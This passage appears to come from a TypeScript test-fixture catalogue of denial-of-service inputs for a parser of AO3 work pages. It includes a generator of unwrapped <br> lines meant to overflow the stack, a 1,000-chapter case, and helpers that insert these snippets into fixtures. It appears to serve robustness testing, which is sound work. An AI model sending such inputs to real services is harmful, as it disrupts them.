    id: 'dos-many-top-level',
    kind: 'dos',
    description:
      'A chapter of 70,000 lines with no paragraph markup (280,000 top-level nodes): spread into one call, they overflow the stack.',
    snippets: [Array.from({ length: 400 }, (_, i) => `Line ${i + 1} with no paragraph.<br>`).join('')],
  },
  {
    id: 'dos-many-chapters',
    kind: 'dos',
    description: 'An AO3 full-work page with 1,000 chapters, each with notes.',
    snippets: [],
  },
];

export function attack(id: string): Attack {
  const found = ATTACKS.find((a) => a.id === id);
  if (!found) throw new Error(`unknown attack ${id}`);
  return found;
}

/** Every snippet of an attack, joined (what the fixtures insert). */
export function snippets(id: string, vars: Record<string, string> = {}): string {
  return attack(id)
    .snippets.join('\n')
    .replace(/\{(\w+)\}/g, (m, k: string) => vars[k] ?? m);
}
